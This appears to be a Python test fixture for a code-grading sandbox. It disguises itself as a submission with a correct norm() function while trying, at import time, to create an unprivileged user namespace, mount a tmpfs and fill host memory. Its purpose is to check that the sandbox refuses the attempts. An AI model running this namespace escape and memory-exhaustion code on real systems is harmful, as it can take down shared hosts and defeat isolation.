"""Hostile (host memory): a user namespace of its own inside the sandbox.

Unprivileged user namespaces make a process root in a namespace it creates: there it can mount
a tmpfs of any size (the default is half the host's memory) and write to it. tmpfs pages are
the host's shared memory: they count against no address-space limit and lie beyond the
sandbox's bounded tmpfs mounts (64 MiB together), so a submission could fill the host's memory
and stop the grader and everything beside it. It tries every way in: unshare(CLONE_NEWUSER |
CLONE_NEWNS), a raw clone with CLONE_NEWUSER, and clone3 with CLONE_NEWUSER; where one works
it maps its uid, mounts a tmpfs on /tmp and writes 96 MiB there (bounded here; a real attack
would not stop), and reports what it achieved on standard output. norm() is correct.

Expected: each attempt is refused (EPERM; clone3 ENOSYS, on which the C library falls back to
clone), nothing is written beyond the sandbox's quota, and the norm check passes (threads and
processes of the submission still work).
"""
import ctypes
import json
import os
import threading

import numpy as np

_libc = ctypes.CDLL(None, use_errno=True)
_CLONE_NEWUSER, _CLONE_NEWNS, _SIGCHLD = 0x10000000, 0x00020000, 17
_UID, _GID = os.getuid(), os.getgid()


def _fill(report_fd: int) -> None:
    """In the new namespaces: map our uid to root, mount a tmpfs, write 96 MiB."""
    said = "namespace"
    try:
        _libc.prctl(4, 1, 0, 0, 0)   # PR_SET_DUMPABLE: /proc/self/*_map become ours
        with open("/proc/self/uid_map", "w") as f:
            f.write(f"0 {_UID} 1")
        try:
            with open("/proc/self/setgroups", "w") as f:
                f.write("deny")
            with open("/proc/self/gid_map", "w") as f:
                f.write(f"0 {_GID} 1")
        except OSError:
            pass
        if _libc.unshare(_CLONE_NEWNS) != 0 and ctypes.get_errno() != 22:
            pass
        if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=256m") != 0:
            said = f"mount refused, errno {ctypes.get_errno()}"
        else:
            chunk, n = b"\1" * (8 << 20), 0
            for i in range(12):
                with open(f"/tmp/fill{i}", "wb") as f:
                    f.write(chunk)
                n += 8
            said = f"wrote {n} MiB"
    except BaseException as exc:  # noqa: BLE001
        said = f"failed: {exc!r}"[:200]
    os.write(report_fd, said.encode())
    os._exit(0)


def _attempt(how: str) -> dict:
    r, w = os.pipe()
    if how == "unshare":
        pid = os.fork()
        if pid == 0:
            os.close(r)
            if _libc.unshare(_CLONE_NEWUSER | _CLONE_NEWNS) != 0:
                os.write(w, f"refused, errno {ctypes.get_errno()}".encode())
                os._exit(0)
            _fill(w)
    elif how == "clone":
        _libc.syscall.restype = ctypes.c_long
        pid = _libc.syscall(56, _CLONE_NEWUSER | _SIGCHLD, 0, 0, 0, 0)   # x86_64 clone
        if pid == 0:
            os.close(r)
            _fill(w)
        if pid < 0:
            os.close(r), os.close(w)
            return {"how": how, "result": f"refused, errno {ctypes.get_errno()}"}
    else:   # clone3: struct clone_args {flags, pidfd, child_tid, parent_tid, exit_signal, ...}
        args = (ctypes.c_uint64 * 11)(_CLONE_NEWUSER, 0, 0, 0, _SIGCHLD, 0, 0, 0, 0, 0, 0)
        _libc.syscall.restype = ctypes.c_long
        pid = _libc.syscall(435, ctypes.byref(args), ctypes.c_size_t(88))
        if pid == 0:
            os.close(r)
            _fill(w)
        if pid < 0:
            os.close(r), os.close(w)
            return {"how": how, "result": f"refused, errno {ctypes.get_errno()}"}
    os.close(w)
    os.waitpid(pid, 0)
    with os.fdopen(r, "rb") as f:
        return {"how": how, "result": f.read(300).decode(errors="replace")}


_report = [_attempt(how) for how in ("unshare", "clone", "clone3")]
_t = threading.Thread(target=lambda: None)
_t.start()
_t.join()
print("USERNS-REPORT " + json.dumps(_report), flush=True)


def norm(v):
    return float(np.linalg.norm(np.asarray(v, dtype=np.float64)))
